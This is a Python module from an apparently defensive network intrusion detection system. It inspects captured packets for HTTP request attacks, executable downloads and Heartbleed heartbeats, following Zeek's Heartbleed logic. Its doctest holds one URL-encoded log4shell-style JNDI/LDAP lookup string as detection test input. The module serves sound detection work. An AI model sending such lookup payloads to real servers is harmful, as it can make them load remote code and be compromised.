"""Payload checks where the capture holds the payload: which packets of a batch to read, and
what reading them finds (:class:`PayloadFinding`).

Each packet is read alone, as it was captured: no TCP stream is reassembled, so a request
whose line or headers span two segments, or a body that starts in a later segment, is seen
only as far as its first segment shows it. Selecting costs one gather of four bytes per TCP
packet with a payload (is it an HTTP method, ``HTTP/1.``, or a TLS heartbeat record?); only
the few that look so are parsed, in :mod:`netids.detect.payload_http` (at most
:data:`HEAD_LIMIT` bytes each, at most ``max_parsed`` a batch). One thing is remembered
across packets: a response whose head filled its packet, so the segment right after it (by
sequence number) is read as its body's start, as servers that send head and body apart
(Python's http.server) would otherwise hide every executable they serve. Heartbleed follows Zeek's
``policy/protocols/ssl/heartbleed.zeek``: a heartbeat request declaring more payload than its
record holds (less the 3-byte header and 16 bytes of padding), and a heartbeat response on a
connection where one was seen is the attack succeeding.
"""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass

import numpy as np

from netids.detect.behaviour_base import BoundedMap
from netids.detect.frames import FrameBatch
from netids.detect.packets import PROTO_TCP, PacketBatch, format_ip, summary
from netids.detect.payload_http import (
    HEAD_LIMIT,
    Hit,
    Response,
    check_request,
    judge_response,
    parse_response,
)

# the first four payload bytes, big-endian, of what is parsed
HTTP_WORDS = np.array([int.from_bytes(w, "big") for w in (
    b"GET ", b"POST", b"PUT ", b"HEAD", b"DELE", b"OPTI", b"PATC", b"HTTP")], dtype=np.uint32)
HEARTBEAT = 0x18  # TLS record type of a heartbeat (RFC 6520)
ELF, MZ = 0x7F454C46, 0x4D5A  # what an executable starts with (MZ: two bytes)
WHY_LIMIT = 400  # characters of a finding's why at most


@dataclass(frozen=True, slots=True)
class PayloadFinding:
    """One packet's payload showing an attack: what the event path needs, not the frame."""

    kind: str  # a key of event_records.BEHAVIOUR_KINDS
    severity: str  # low .. critical
    what: str  # "SQL injection", "Windows executable (MZ)", ...
    why: str  # the evidence in words, at most WHY_LIMIT characters
    ts: float
    src: str
    dst: str
    sport: int
    dport: int
    index: int  # the packet's position in its stream
    frame: bytes  # the captured frame, for the event's sample (pcap export)
    wirelen: int
    linktype: int
    summary: str  # the packet in one line


@dataclass(slots=True)
class InspectStats:
    looked: int = 0  # packets whose first bytes looked like HTTP or a heartbeat
    parsed: int = 0
    skipped: int = 0  # looked so, but past max_parsed in their batch
    found: int = 0


class PayloadInspector:
    """Reads the HTTP heads and TLS heartbeats of a stream's packets, batch by batch.

    >>> from netids.detect.decode import decode
    >>> eth = bytes(12) + b"\\x08\\x00"
    >>> ip = bytes.fromhex("4500006a00010000400600000a0000010a000002")
    >>> tcp = bytes.fromhex("3039005000000000000000005018200000000000")
    >>> req = b"GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n"
    >>> frames = FrameBatch.from_frames([eth + ip + tcp + req], [1.0])
    >>> (f,) = PayloadInspector().inspect(frames, decode(frames))
    >>> f.what, f.src, f.dst, f.dport
    ('lookup injection (log4shell-style)', '10.0.0.1', '10.0.0.2', 80)
    """

    def __init__(self, max_parsed: int = 2048, capacity: int = 4096) -> None:
        self.max_parsed = max_parsed  # packets parsed per batch at most (an HTTP flood)
        self.bled: BoundedMap[tuple[str, int, str, int], bool] = BoundedMap(capacity, bool)
        # responses whose body starts in the next segment: flow -> [its sequence number, head]
        self.heads: BoundedMap[tuple[str, int, str, int], list] = BoundedMap(capacity, list)
        self.stats = InspectStats()

    def inspect(self, frames: FrameBatch, packets: PacketBatch) -> list[PayloadFinding]:
        """The findings of one batch (``packets`` decoded from ``frames``, same rows)."""
        index, heads = select(frames, packets)
        if len(index) == 0:
            return []
        self.stats.looked += len(index)
        if len(index) > self.max_parsed:
            self.stats.skipped += len(index) - self.max_parsed
            index, heads = index[: self.max_parsed], heads[: self.max_parsed]
        self.stats.parsed += len(index)
        found: list[PayloadFinding] = []
        for i, word in zip(index.tolist(), heads.tolist(), strict=True):
            head = _head(frames, packets, i)
            if word >> 24 == HEARTBEAT:
                hits = self._heartbeat(packets, i, head)
            elif word == HTTP_WORDS[-1]:
                hits = self._response(packets, i, head)
            elif word == ELF or word >> 16 == MZ:
                hits = self._body(packets, i, head)
            else:
                hits = check_request(head)
            found += [_finding(frames, packets, i, h) for h in hits]
        self.stats.found += len(found)
        return found

    def _response(self, packets: PacketBatch, i: int, head: bytes) -> list[Hit]:
        response = parse_response(head)
        if response is None:
            return []
        if not response.body and int(packets.payload[i]) == len(head):  # body: next segment
            self.heads.get(_conn_key(packets, i))[:] = [
                (int(packets.seq[i]) + len(head)) & 0xFFFF_FFFF, response]
        return judge_response(response)

    def _body(self, packets: PacketBatch, i: int, head: bytes) -> list[Hit]:
        """An executable's first bytes: a download when they follow a response's head."""
        key = _conn_key(packets, i)
        waiting = self.heads.peek(key)
        if not waiting or waiting[0] != int(packets.seq[i]):
            return []
        self.heads.pop(key)
        response: Response = waiting[1]
        if judge_response(response):  # found by its head already
            return []
        return judge_response(dataclasses.replace(response, body=head))

    def _heartbeat(self, packets: PacketBatch, i: int, head: bytes) -> list[Hit]:
        """Zeek's heartbleed checks on a heartbeat record at the start of a segment."""
        if len(head) < 8:
            return []
        length = int.from_bytes(head[3:5], "big")
        kind, declared = head[5], int.from_bytes(head[6:8], "big")
        key = _conn_key(packets, i)
        if kind == 1 and declared > (length - 19 if length >= 19 else length):
            self.bled.get(key)
            self.bled.get(key[2:] + key[:2])
            return [Hit("heartbleed", "high", "Heartbleed request",
                        f"TLS heartbeat request declaring {declared:,} bytes of payload in a "
                        f"{length:,}-byte record (more than it holds): Heartbleed "
                        "(CVE-2014-0160) reading the server's memory")]
        if kind == 2 and self.bled.peek(key) is not None:
            return [Hit("heartbleed", "critical", "Heartbleed answered",
                        f"the server answered a Heartbleed request with a {length:,}-byte "
                        "heartbeat: its memory probably leaked", reverse=True)]
        return []


def select(frames: FrameBatch, packets: PacketBatch) -> tuple[np.ndarray, np.ndarray]:
    """Rows whose TCP payload starts like an HTTP request or response, or a TLS heartbeat
    record, and their first four bytes: one vectorised pass over the batch."""
    at = packets.payload_at
    room = np.minimum(packets.payload, frames.caplen - at)
    cand = np.flatnonzero((packets.proto == PROTO_TCP) & (at >= 0) & (room >= 4))
    if len(cand) == 0:
        return cand, np.zeros(0, np.uint32)
    pos = frames.start[cand] + at[cand]
    b = [frames.buf[pos + k].astype(np.uint32) for k in range(4)]
    word = (b[0] << 24) | (b[1] << 16) | (b[2] << 8) | b[3]
    heartbeat = ((word >> 16) == (HEARTBEAT << 8) | 3) & (((word >> 8) & 0xFF) <= 4)  # TLS 1.x
    body = (word == ELF) | ((word >> 16) == MZ)  # the start of a body sent apart from its head
    keep = np.isin(word, HTTP_WORDS) | heartbeat | body
    return cand[keep], word[keep]


def _head(frames: FrameBatch, packets: PacketBatch, i: int) -> bytes:
    """The first HEAD_LIMIT captured bytes of row ``i``'s payload (never its padding)."""
    start = int(frames.start[i]) + int(packets.payload_at[i])
    size = min(int(packets.payload[i]), int(frames.caplen[i]) - int(packets.payload_at[i]),
               HEAD_LIMIT)
    return frames.buf[start : start + max(size, 0)].tobytes()


def _conn_key(packets: PacketBatch, i: int) -> tuple[str, int, str, int]:
    return (format_ip(packets.src_hi[i], packets.src_lo[i]), int(packets.sport[i]),
            format_ip(packets.dst_hi[i], packets.dst_lo[i]), int(packets.dport[i]))


def _finding(frames: FrameBatch, packets: PacketBatch, i: int, hit: Hit) -> PayloadFinding:
    src, sport, dst, dport = _conn_key(packets, i)
    if hit.reverse:
        src, sport, dst, dport = dst, dport, src, sport
    why = hit.why if len(hit.why) <= WHY_LIMIT else hit.why[: WHY_LIMIT - 3] + "..."
    return PayloadFinding(
        kind=hit.kind, severity=hit.severity, what=hit.what, why=why,
        ts=float(packets.ts[i]), src=src, dst=dst, sport=sport, dport=dport,
        index=frames.first_index + i, frame=frames.frame(i), wirelen=int(frames.wirelen[i]),
        linktype=int(frames.linktype[i]), summary=summary(packets, i))
